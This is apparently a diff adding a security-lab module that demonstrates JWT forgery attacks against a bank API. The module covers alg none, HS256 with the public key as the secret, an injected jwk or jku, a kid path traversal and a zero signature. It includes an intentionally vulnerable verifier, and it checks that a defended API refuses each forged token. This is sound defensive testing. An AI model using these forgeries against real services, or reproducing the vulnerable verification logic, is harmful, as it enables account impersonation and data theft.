@@ -1,0 +1,173 @@
+"""Mallory signs an access token himself, and makes the API verify it with a key that he chose.
+
+The header of a JWT says how it is signed and with which key, and Mallory writes the header. He says that it is not
+signed at all. He says that the signature is a MAC, whose key is the bank's public key. He puts his own key into the
+header, or a URL where his key lies, or the path of a file whose content he knows. Or he sends a signature of zeros,
+which some libraries took for a right one. A naive API does what the header says.
+
+The API stops all of these in one place. It takes the algorithms of the profile, and a key that the bank publishes, by
+its id. Nothing in the header can bring another key.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import hmac
+import json
+import secrets
+import time
+from collections.abc import Callable
+from typing import Any
+
+import httpx
+from starlette.requests import Request
+from starlette.responses import JSONResponse, PlainTextResponse, Response
+from starlette.types import Receive, Scope, Send
+
+from examples.attack_lab.answers import accepted
+from examples.attack_lab.attack import Attack, Play
+from examples.attack_lab.jwts import claims_of, header_of, joined, signed, unsigned
+from examples.attack_lab.lab import Lab
+from examples.attack_lab.mallory import MallorysSite, Seen
+from examples.attack_lab.story import Party, Story
+from fapikit import PrivateKey, base64url
+from rskit.issuers.trusted_issuer import KnownHeader
+
+LOOT = "the answer of the API to Alice"
+MALLORY, API = Party.MALLORY, Party.ACCOUNTS
+MALLORYS_KEY = PrivateKey.generate("ES256")
+ZEROS = base64url.encode(bytes(64))
+
+
+class KeySite(MallorysSite):
+    """Mallory publishes his key."""
+
+    def answer(self, _seen: Seen) -> Response:
+        return JSONResponse({"keys": [dict(MALLORYS_KEY.public_jwk)]})
+
+
+class ObedientApi:
+    """It verifies as the header says. `published`: the public key of the bank, as it was published."""
+
+    def __init__(self, lab: Lab, published: str) -> None:
+        self._tls = lab.tls
+        self._published = published
+
+    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
+        if scope["type"] == "http":
+            token = Request(scope).headers["authorization"].split()[1]
+            good = await self._verifies(token) and claims_of(token)["sub"] == "alice"
+            await PlainTextResponse("welcome" if good else "no", 200 if good else 401)(scope, receive, send)
+
+    async def _verifies(self, token: str) -> bool:
+        header, (signing_input, _, signature) = header_of(token), token.rpartition(".")
+        match header["alg"]:
+            case "none":
+                return True
+            case "HS256":
+                secret = "" if header["kid"].endswith("/dev/null") else self._published
+                return hmac.compare_digest(_mac(signing_input, secret), signature)
+        if "jku" in header:
+            async with httpx.AsyncClient(verify=self._tls, trust_env=False) as http:
+                return bool((await http.get(header["jku"])).json()["keys"] == [dict(MALLORYS_KEY.public_jwk)])
+        return "jwk" in header or signature == ZEROS
+
+
+def _mac(signing_input: str, secret: str) -> str:
+    return base64url.encode(hmac.digest(secret.encode(), signing_input.encode(), hashlib.sha256))
+
+
+def _with_mac(claims: dict[str, Any], secret: str, kid: str) -> str:
+    signing_input = joined({"alg": "HS256", "typ": "at+jwt", "kid": kid}, claims)
+    return f"{signing_input}.{_mac(signing_input, secret)}"
+
+
+Forge = Callable[[Lab, dict[str, Any], dict[str, Any]], str]
+"""Takes the claims, and the key that the bank publishes. Returns the forged token."""
+
+
+def not_signed(_lab: Lab, claims: dict[str, Any], key: dict[str, Any]) -> str:
+    return unsigned(claims, typ="at+jwt", kid=key["kid"])
+
+
+def public_key_as_secret(_lab: Lab, claims: dict[str, Any], key: dict[str, Any]) -> str:
+    return _with_mac(claims, json.dumps(key), key["kid"])
+
+
+def own_key(_lab: Lab, claims: dict[str, Any], key: dict[str, Any]) -> str:
+    return signed(claims, MALLORYS_KEY, typ="at+jwt", kid=key["kid"], jwk=dict(MALLORYS_KEY.public_jwk))
+
+
+def own_url(lab: Lab, claims: dict[str, Any], key: dict[str, Any]) -> str:
+    return signed(claims, MALLORYS_KEY, typ="at+jwt", kid=key["kid"], jku=f"{lab.serve(KeySite())}/jwks")
+
+
+def known_file(_lab: Lab, claims: dict[str, Any], _key: dict[str, Any]) -> str:
+    return _with_mac(claims, "", "../../../dev/null")
+
+
+def zeros(_lab: Lab, claims: dict[str, Any], key: dict[str, Any]) -> str:
+    return f"{joined({'alg': 'ES256', 'typ': 'at+jwt', 'kid': key['kid']}, claims)}.{ZEROS}"
+
+
+def _play(forge: Forge, header: str, *, protected: bool) -> Play:
+    def play(lab: Lab, story: Story) -> str:
+        world = lab.under("oauth-2.1")
+        key: dict[str, Any] = lab.http.get(world.metadata["jwks_uri"]).json()["keys"][0]
+        if protected:
+            api = lab.protect(PlainTextResponse("welcome"), world.bank.issuer)
+            honest = {"authorization": f"Bearer {world.bank.access_token(aud=f'{api}/')}"}
+            assert lab.http.get(f"{api}/", headers=honest).is_success, "an honest token is good"
+        else:
+            api = lab.serve(ObedientApi(lab, json.dumps(key)))
+        token = forge(lab, _claims(world.bank.issuer, api), key)
+        story.step(
+            MALLORY, API, f"a token of his own, with {header}", "All claims are as the bank would write them."
+        )
+        answer = lab.http.get(f"{api}/", headers={"authorization": f"Bearer {token}"})
+        assert accepted(answer).text == "welcome"
+        story.step(API, MALLORY, "Alice's data", "The API did what the header said.")
+        return LOOT
+
+    return play
+
+
+def _claims(issuer: str, api: str) -> dict[str, Any]:
+    now = int(time.time())
+    return {
+        "iss": issuer,
+        "aud": f"{api}/",
+        "sub": "alice",
+        "client_id": "fintech",
+        "jti": secrets.token_urlsafe(8),
+        "iat": now,
+        "exp": now + 60,
+    }
+
+
+def _attack(forge: Forge, header: str, **data: Any) -> Attack:
+    return Attack(
+        loot=LOOT,
+        countermeasures=("C21",),
+        defence="rskit.tokens.jwt._select",
+        without=lambda _token, _trusted, keys: KnownHeader(lambda *_: True, keys),
+        undefended=_play(forge, header, protected=False),
+        defended=_play(forge, header, protected=True),
+        **data,
+    )
+
+
+def _refused_algorithm(forge: Forge, header: str, **data: Any) -> Attack:
+    return _attack(forge, header, rule="ForbiddenAlgorithm", clause="RFC 8725 3.1", **data)
+
+
+def _refused_signature(forge: Forge, header: str, **data: Any) -> Attack:
+    return _attack(forge, header, rule="BadSignature", clause="RFC 9068 4-5", **data)
+
+
+NONE = _refused_algorithm(not_signed, "alg none", id="N7", title="a JWT that is not signed")
+SECRET = _refused_algorithm(public_key_as_secret, "alg HS256", id="N7.2", title="the public key as a secret")
+KEY = _refused_signature(own_key, "his key in it", id="N7.3", title="a key in the header")
+URL = _refused_signature(own_url, "a URL of his in it", id="N7.4", title="the URL of a key in the header")
+FILE = _refused_algorithm(known_file, "kid ../../../dev/null", id="N7.5", title="a path as the key id")
+ZERO = _refused_signature(zeros, "a signature of zeros", id="N7.6", title="a signature of zeros")
